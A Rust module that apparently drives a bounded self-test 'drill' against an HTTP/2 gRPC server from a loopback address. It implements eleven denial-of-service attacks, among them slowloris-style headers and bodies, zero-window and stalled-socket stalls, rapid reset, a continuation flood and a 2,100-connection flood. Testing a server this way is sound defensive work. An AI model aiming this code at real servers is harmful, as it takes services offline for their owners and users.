//! The attacks of the drill. Each runs from an address of its own until its deadline, and is bounded in rate.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, WINDOW_UPDATE,
    beginning, encode_headers, frame,
};
use crate::lists::RPC;

/// The address that attackers connect from.
const SOURCE: &str = "127.0.0.66";
const WINDOW: u32 = 65_535;
const MAX_WINDOW: u32 = 0x7fff_ffff;

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Parts of headers that never end, a few bytes a second.
    SlowHeaders,
    /// Headers, then a message that arrives byte by byte.
    SlowBody,
    /// Headers without a message, 150 a second.
    NoBody,
    /// Up to 23 bytes of the preface.
    PartialPreface,
    /// A handshake, then nothing.
    Silent,
    /// Calls, but no answer to a ping.
    PingDeaf,
    /// Calls whose answers have no window.
    ZeroWindow,
    /// Calls whose answers are not read from the socket.
    StalledSocket,
    /// Calls that are reset at once.
    RapidReset,
    /// Headers that continue for ever.
    ContinuationFlood,
    /// 2,100 connections.
    Connections,
}

impl Attack {
    pub const ALL: [Attack; 11] = [
        Attack::SlowHeaders,
        Attack::SlowBody,
        Attack::NoBody,
        Attack::PartialPreface,
        Attack::Silent,
        Attack::PingDeaf,
        Attack::ZeroWindow,
        Attack::StalledSocket,
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::Connections,
    ];

    /// Whether the attack needs answers, so that its caller must have access.
    pub fn needs_answers(self) -> bool {
        matches!(
            self,
            Attack::PingDeaf | Attack::ZeroWindow | Attack::StalledSocket
        )
    }

    /// Runs until the deadline. Returns the number of connections that were open at its end.
    pub async fn run(self, server: SocketAddr, authorization: &str, until: Instant) -> usize {
        let connections: u32 = match self {
            Attack::Connections => 2_100,
            Attack::RapidReset | Attack::ContinuationFlood | Attack::NoBody => 6,
            Attack::StalledSocket => 10,
            _ => 200,
        };
        let mut clients = JoinSet::new();
        for number in 0..connections {
            // All within five seconds: the attack is not the load of its beginning.
            let pause = Duration::from_secs(5) * number / connections;
            let attacker = Attacker {
                server,
                number: number as usize,
                pause,
                headers: headers(authorization),
            };
            clients.spawn(async move { timeout_at(until, attacker.attack(self)).await.is_err() });
        }
        // A client that is still busy at the deadline has not been disconnected.
        let ended = clients.join_all().await;
        ended.iter().filter(|is_open| **is_open).count()
    }
}

fn headers(authorization: &str) -> Vec<u8> {
    encode_headers(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", &format!("/{RPC}")),
        (":authority", "cosell"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", authorization),
    ])
}

struct Attacker {
    server: SocketAddr,
    number: usize,
    pause: Duration,
    headers: Vec<u8>,
}

impl Attacker {
    async fn attack(self, attack: Attack) -> std::io::Result<()> {
        sleep(self.pause).await;
        let mut stream = self.connect(attack == Attack::StalledSocket).await?;
        match attack {
            Attack::PartialPreface => stream.write_all(&PREFACE[..=self.number % 23]).await?,
            Attack::Silent => stream.write_all(&beginning(WINDOW)).await?,
            Attack::Connections => {}
            Attack::SlowHeaders => {
                stream.write_all(&beginning(WINDOW)).await?;
                stream
                    .write_all(&frame(HEADERS, 0, 1, &self.headers[..8]))
                    .await?;
                for byte in &self.headers[8..] {
                    sleep(Duration::from_millis(300)).await;
                    stream.write_all(&frame(CONTINUATION, 0, 1, &[*byte])).await?;
                }
            }
            Attack::SlowBody => {
                stream.write_all(&beginning(WINDOW)).await?;
                for call in 0..20 {
                    stream
                        .write_all(&frame(HEADERS, END_HEADERS, call * 2 + 1, &self.headers))
                        .await?;
                }
                for byte in [0, 0, 1, 0, 0].into_iter().chain(std::iter::repeat(8)) {
                    for call in 0..20 {
                        stream.write_all(&frame(DATA, 0, call * 2 + 1, &[byte])).await?;
                    }
                    sleep(Duration::from_millis(500)).await;
                }
            }
            Attack::NoBody => {
                stream.write_all(&beginning(WINDOW)).await?;
                let (mut read, mut write) = stream.into_split();
                tokio::spawn(
                    async move { while read.read(&mut [0; 4096]).await.is_ok_and(|size| size > 0) {} },
                );
                for call in 0.. {
                    write
                        .write_all(&frame(HEADERS, END_HEADERS, call * 2 + 1, &self.headers))
                        .await?;
                    // A connection has at most 128 streams: older ones are given up.
                    if call >= 100 {
                        let reset = frame(RST_STREAM, 0, (call - 100) * 2 + 1, &[0, 0, 0, 8]);
                        write.write_all(&reset).await?;
                    }
                    sleep(Duration::from_millis(40)).await;
                }
                return Ok(());
            }
            Attack::PingDeaf | Attack::StalledSocket | Attack::ZeroWindow => {
                let window = if attack == Attack::ZeroWindow {
                    0
                } else {
                    MAX_WINDOW
                };
                let update = frame(WINDOW_UPDATE, 0, 0, &(MAX_WINDOW / 2).to_be_bytes());
                stream.write_all(&[beginning(window), update].concat()).await?;
                // Enough to fill the buffers of the socket.
                let calls = if attack == Attack::StalledSocket { 100 } else { 3 };
                for call in 0..calls {
                    stream
                        .write_all(&frame(HEADERS, END_HEADERS, call * 2 + 1, &self.headers))
                        .await?;
                    stream
                        .write_all(&frame(DATA, END_STREAM, call * 2 + 1, &[0; 5]))
                        .await?;
                    sleep(Duration::from_millis(100)).await;
                }
                // Notices the end of the connection without reading.
                if attack == Attack::StalledSocket {
                    loop {
                        sleep(Duration::from_secs(1)).await;
                        stream.write_all(&frame(PING, 0, 0, &[0; 8])).await?;
                    }
                }
            }
            Attack::RapidReset => {
                stream.write_all(&beginning(WINDOW)).await?;
                for call in 0.. {
                    let id = call * 2 + 1;
                    let mut frames = frame(HEADERS, END_HEADERS, id, &self.headers);
                    frames.extend(frame(DATA, END_STREAM, id, &[0; 5]));
                    frames.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
                    stream.write_all(&frames).await?;
                    sleep(Duration::from_millis(2)).await;
                }
            }
            Attack::ContinuationFlood => {
                stream.write_all(&beginning(WINDOW)).await?;
                stream.write_all(&frame(HEADERS, 0, 1, &self.headers)).await?;
                let padding = encode_headers(&[("x-padding", &"x".repeat(1_000))]);
                loop {
                    stream.write_all(&frame(CONTINUATION, 0, 1, &padding)).await?;
                    sleep(Duration::from_millis(2)).await;
                }
            }
        }
        // Waits until the server closes the connection.
        while stream.read(&mut [0; 4096]).await? > 0 {}
        Ok(())
    }

    async fn connect(&self, has_small_buffer: bool) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        if has_small_buffer {
            socket.set_recv_buffer_size(2_048)?;
        }
        let source = format!("{SOURCE}:0").parse().map_err(std::io::Error::other)?;
        socket.bind(source)?;
        let stream = socket.connect(self.server).await?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }
}
